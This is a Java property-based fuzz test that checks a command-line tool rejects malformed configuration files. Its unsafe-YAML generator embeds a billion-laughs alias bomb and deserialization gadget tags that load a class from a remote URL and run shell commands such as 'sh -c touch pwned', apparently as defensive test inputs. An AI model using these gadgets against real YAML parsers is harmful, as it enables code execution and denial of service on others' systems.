package org.mtrl.app.reliability;

import com.fasterxml.jackson.databind.node.TextNode;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Pattern;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.Tag;
import net.jqwik.api.lifecycle.AfterContainer;
import org.mtrl.app.reliability.Bases.Base;
import org.mtrl.app.reliability.Bases.Target;
import org.mtrl.app.reliability.ConfigCases.Form;
import org.mtrl.app.reliability.ConfigCases.Mutation;

/**
 * Generated and mutated configuration files: every one must be refused by {@code mtrl run} and
 * {@code mtrl config} with exit code 2 and one error line naming the key, or the file and line.
 */
@Tag("slow")
class ConfigFileFuzzTest {
    static final int TRIES = 100;
    private static final String FILE = CliCase.DIR + "/";
    private static final Pattern MAPPING_LINE = Pattern.compile("\\s*[A-Za-z][\\w-]*:( .*)?");

    @Property(tries = TRIES, seed = "20240701")
    void unknownKeys(@ForAll("unknownKeys") CliCase c) {
        Harness.expectBadInput(c);
    }

    @Provide
    Arbitrary<CliCase> unknownKeys() {
        return Combinators.combine(ConfigCases.unknownKey(true), ConfigCases.fileForms())
                .as((m, form) -> m.render(Category.FILE_UNKNOWN_KEY, form));
    }

    @Property(tries = TRIES, seed = "20240702")
    void wrongTypes(@ForAll("wrongTypes") CliCase c) {
        Harness.expectBadInput(c);
    }

    @Provide
    Arbitrary<CliCase> wrongTypes() {
        return files(Category.FILE_WRONG_TYPE, ConfigCases.parameter(t -> true, BadValues::wrongType));
    }

    @Property(tries = TRIES, seed = "20240703")
    void outOfRange(@ForAll("outOfRange") CliCase c) {
        Harness.expectBadInput(c);
    }

    @Provide
    Arbitrary<CliCase> outOfRange() {
        return files(Category.FILE_OUT_OF_RANGE, ConfigCases.parameter(BadValues::hasRange, BadValues::outOfRange));
    }

    @Property(tries = TRIES, seed = "20240704")
    void nonFinite(@ForAll("nonFinite") CliCase c) {
        Harness.expectBadInput(c);
    }

    @Provide
    Arbitrary<CliCase> nonFinite() {
        return ConfigCases.parameter(Target::numeric, BadValues::nonFinite)
                .map(m -> m.render(Category.FILE_NON_FINITE, Form.YAML));
    }

    @Property(tries = TRIES, seed = "20240705")
    void emptyAndHugeLists(@ForAll("lists") CliCase c) {
        Harness.expectBadInput(c);
    }

    @Provide
    Arbitrary<CliCase> lists() {
        return files(Category.FILE_LISTS, ConfigCases.parameter(t -> true, BadValues::emptyOrHugeList));
    }

    @Property(tries = TRIES, seed = "20240706")
    void duplicateKeys(@ForAll("duplicates") CliCase c) {
        Harness.expectBadInput(c);
    }

    /** A line of a base's YAML (a key) or JSON (a member) repeated, with the same or another value. */
    @Provide
    Arbitrary<CliCase> duplicates() {
        Arbitrary<CliCase> yaml = Combinators.combine(Bases.any(), Arbitraries.integers().between(0, 1000),
                Arbitraries.integers().between(0, 1000), Arbitraries.integers().between(0, 9)).as((base, pick, gap, v) -> {
                    List<String> lines = new ArrayList<>(ConfigCases.yaml(base).lines().toList());
                    List<Integer> keyLines = indexes(lines, l -> MAPPING_LINE.matcher(l).matches());
                    int at = keyLines.get(pick % keyLines.size());
                    String line = lines.get(at);
                    String copy = v == 0 || !line.matches(".*: .+") ? line : line.substring(0, line.indexOf(": ") + 2) + v;
                    lines.add(at + 1, copy);
                    return CliCase.file(Category.FILE_DUPLICATE_KEY, "YAML file", "dup.yaml", String.join("\n", lines),
                            List.of(), List.of(FILE + "dup.yaml", "line ", "uplicate"));
                });
        Arbitrary<CliCase> json = Combinators.combine(Bases.any(), Arbitraries.integers().between(0, 1000)).as((base, pick) -> {
            List<String> lines = new ArrayList<>(ConfigCases.json(base).lines().toList());
            List<Integer> members = indexes(lines, l -> l.strip().startsWith("\"") && l.endsWith(","));
            int at = members.get(pick % members.size());
            lines.add(at + 1, lines.get(at));
            return CliCase.file(Category.FILE_DUPLICATE_KEY, "JSON file", "dup.json", String.join("\n", lines),
                    List.of(), List.of(FILE + "dup.json", "line ", "uplicate"));
        });
        return Arbitraries.oneOf(yaml, json);
    }

    @Property(tries = TRIES, seed = "20240707")
    void invalidSyntax(@ForAll("invalidSyntax") CliCase c) {
        Harness.expectBadInput(c);
    }

    /** YAML with a broken line inserted at a random line; JSON with a structural character dropped or doubled. */
    @Provide
    Arbitrary<CliCase> invalidSyntax() {
        List<String> broken = List.of("k: [1, 2", "k: {a: 1", "\"k: 1", "\tk: 1", "k: v: w", "k: @v", "k: `v",
                "- item", "]", "}", "k: \"a\\qb\"", "%YAML 1.1", "k: 'unterminated", "---");
        Arbitrary<CliCase> yaml = Combinators.combine(Bases.any(), Arbitraries.of(broken),
                Arbitraries.integers().between(1, 1000)).as((base, snippet, pick) -> {
                    List<String> lines = new ArrayList<>(ConfigCases.yaml(base).lines().toList());
                    // strictly inside: "---" first or "%YAML 1.1" last would still be valid YAML
                    lines.add(1 + pick % (lines.size() - 1), snippet);
                    return CliCase.file(Category.FILE_INVALID_YAML, "YAML file", "broken.yaml", String.join("\n", lines),
                            List.of(), List.of(FILE + "broken.yaml", "line "));
                });
        Arbitrary<CliCase> json = Combinators.combine(Bases.any(), Arbitraries.integers().between(0, 100_000),
                Arbitraries.of(true, false)).as((base, pick, drop) -> {
                    String text = ConfigCases.json(base);
                    List<Integer> structural = new ArrayList<>();
                    for (int i = 0; i < text.length(); i++) {
                        if ("{}[],:".indexOf(text.charAt(i)) >= 0) {
                            structural.add(i);
                        }
                    }
                    int at = structural.get(pick % structural.size());
                    String mutated = drop ? text.substring(0, at) + text.substring(at + 1)
                            : text.substring(0, at + 1) + text.substring(at);
                    return CliCase.file(Category.FILE_INVALID_YAML, "JSON file", "broken.json", mutated,
                            List.of(), List.of(FILE + "broken.json", "line "));
                });
        return Arbitraries.oneOf(yaml, json);
    }

    @Property(tries = TRIES, seed = "20240708")
    void unsafeYaml(@ForAll("unsafeYaml") CliCase c) {
        Harness.expectBadInput(c);
    }

    /**
     * "Billion laughs" (k levels of anchors, each aliasing the previous one ten times), type tags naming
     * Java or Python classes (they must never be instantiated), and merge keys.
     */
    @Provide
    Arbitrary<CliCase> unsafeYaml() {
        Arbitrary<CliCase> laughs = Arbitraries.integers().between(1, 12).map(levels -> {
            StringBuilder doc = new StringBuilder("a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
            for (int k = 1; k <= levels; k++) {
                String prev = "*a" + (k - 1);
                doc.append("a").append(k).append(": &a").append(k).append(" [")
                        .append(String.join(", ", java.util.Collections.nCopies(10, prev))).append("]\n");
            }
            return CliCase.file(Category.FILE_UNSAFE_YAML, "YAML file", "laughs.yaml", doc.toString(), List.of(),
                    List.of(FILE + "laughs.yaml", "line ", "alias"));
        });
        List<String> tags = List.of(
                "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]",
                "!!python/object/apply:os.system [\"echo pwned\"]",
                "!!java.lang.ProcessBuilder [[\"sh\", \"-c\", \"touch pwned\"]]",
                "!!java.io.FileOutputStream {name: pwned}");
        Arbitrary<CliCase> tagged = Bases.any().flatMap(base -> Combinators.combine(Arbitraries.of(base.targets()),
                Arbitraries.of(tags)).as((t, tag) -> {
                    Mutation m = new Mutation(base, t.slot(), t.name(), TextNode.valueOf("unused"), t.path());
                    String text = m.render(Category.FILE_UNSAFE_YAML, Form.YAML).files().values().stream()
                            .map(String::new).findFirst().orElseThrow().replace("\"unused\"", tag);
                    return CliCase.file(Category.FILE_UNSAFE_YAML, "YAML file", "tagged.yaml", text,
                            List.of(t.path(), FILE + "tagged.yaml"), List.of());
                }));
        Arbitrary<CliCase> merge = Bases.any().map(base -> {
            String text = "base: &base {width: 3}\n" + ConfigCases.yaml(base).replace("model:\n", "model:\n  <<: *base\n");
            return CliCase.file(Category.FILE_UNSAFE_YAML, "YAML file", "merge.yaml", text, List.of(),
                    List.of(FILE + "merge.yaml", "line ", "alias"));
        });
        return Arbitraries.oneOf(laughs, tagged, merge);
    }

    @Property(tries = TRIES, seed = "20240709")
    void binaryJunk(@ForAll("junk") CliCase c) {
        Harness.expectBadInput(c);
    }

    /** Random bytes with at least one control character, under a configuration file name. */
    @Provide
    Arbitrary<CliCase> junk() {
        return Combinators.combine(Arbitraries.bytes().array(byte[].class).ofMinSize(0).ofMaxSize(4096),
                Arbitraries.integers().between(0, 4096), Arbitraries.bytes().between((byte) 0, (byte) 8),
                Arbitraries.of("junk.yaml", "junk.yml", "junk.json")).as((bytes, at, control, name) -> {
                    byte[] content = new byte[bytes.length + 1];
                    int i = at % content.length;
                    System.arraycopy(bytes, 0, content, 0, i);
                    content[i] = control;
                    System.arraycopy(bytes, i, content, i + 1, bytes.length - i);
                    return CliCase.file(Category.FILE_BINARY_JUNK, "binary file", name, content, List.of(),
                            List.of(FILE + name));
                });
    }

    @Property(tries = TRIES, seed = "20240710")
    void deepNesting(@ForAll("nesting") CliCase c) {
        Harness.expectBadInput(c);
    }

    @Provide
    Arbitrary<CliCase> nesting() {
        return Bases.any().flatMap(base -> Combinators.combine(Arbitraries.of(base.targets()),
                Arbitraries.integers().between(2, 5000), Arbitraries.of(true, false), ConfigCases.fileForms())
                .as((t, depth, lists, form) -> {
                    String open = lists ? "[" : "{\"a\": ";
                    String close = lists ? "]" : "}";
                    String nested = open.repeat(depth) + "1" + close.repeat(depth);
                    String name = form == Form.JSON ? "deep.json" : "deep.yaml";
                    Mutation m = new Mutation(base, t.slot(), t.name(), TextNode.valueOf("unused"), t.path());
                    String text = new String(m.render(Category.FILE_DEEP_NESTING, form).files().values().iterator().next())
                            .replace("\"unused\"", nested);
                    return CliCase.file(Category.FILE_DEEP_NESTING, form == Form.JSON ? "JSON file" : "YAML file", name,
                            text, List.of(t.path(), FILE + name), List.of());
                }));
    }

    @Property(tries = TRIES, seed = "20240711")
    void longStrings(@ForAll("longStrings") CliCase c) {
        Harness.expectBadInput(c);
    }

    /**
     * A long value for a string parameter, a long unknown key, a long probe name, or a document over
     * the size bound (1 MiB), padded with a long comment.
     */
    @Provide
    Arbitrary<CliCase> longStrings() {
        Arbitrary<String> text = Combinators.combine(Arbitraries.integers().between(1000, 300_000),
                Arbitraries.of('a', 'é', '漢', 'x')).as((n, c) -> String.valueOf(c).repeat(n));
        Arbitrary<CliCase> value = Bases.any().flatMap(base -> Combinators.combine(
                Arbitraries.of(base.targets().stream().filter(t -> t.type() == Bases.ValueType.STRING && !t.list())
                        .toList()), text, ConfigCases.fileForms())
                .as((t, s, form) -> new Mutation(base, t.slot(), t.name(), TextNode.valueOf(s), t.path())
                        .render(Category.FILE_LONG_STRING, form)));
        Arbitrary<CliCase> key = Bases.any().flatMap(base -> Combinators.combine(Arbitraries.of(base.locations()),
                text, ConfigCases.fileForms()).as((location, s, form) ->
                withFileToo(new Mutation(base, location, s, com.fasterxml.jackson.databind.node.IntNode.valueOf(1),
                        location.isEmpty() ? s.substring(0, 20) : location + "." + s.substring(0, 20))
                        .render(Category.FILE_LONG_STRING, form))));
        Arbitrary<CliCase> huge = Combinators.combine(Bases.any(), Arbitraries.integers().between(1 << 20, 2 << 20))
                .as((base, n) -> CliCase.file(Category.FILE_LONG_STRING, "YAML file", "huge.yaml",
                        "# " + "x".repeat(n) + "\n" + ConfigCases.yaml(base), List.of(),
                        List.of(FILE + "huge.yaml", "too large")));
        return Arbitraries.oneOf(value, key, huge);
    }

    @AfterContainer
    static void report() {
        Ledger.writeIfComplete();
    }

    /** A key longer than the JSON reader's bound on names (50,000) is refused for the whole file. */
    private static CliCase withFileToo(CliCase c) {
        List<String> anyOf = new ArrayList<>(c.anyOf());
        anyOf.add(c.args().get(0));
        return new CliCase(c.category(), c.form(), c.files(), c.args(), c.commands(), anyOf, c.allOf());
    }

    private static Arbitrary<CliCase> files(Category category, Arbitrary<Mutation> mutations) {
        return Combinators.combine(mutations, ConfigCases.fileForms()).as((m, form) -> m.render(category, form));
    }

    private static List<Integer> indexes(List<String> lines, java.util.function.Predicate<String> matching) {
        List<Integer> result = new ArrayList<>();
        for (int i = 0; i < lines.size(); i++) {
            if (matching.test(lines.get(i))) {
                result.add(i);
            }
        }
        return result;
    }
}
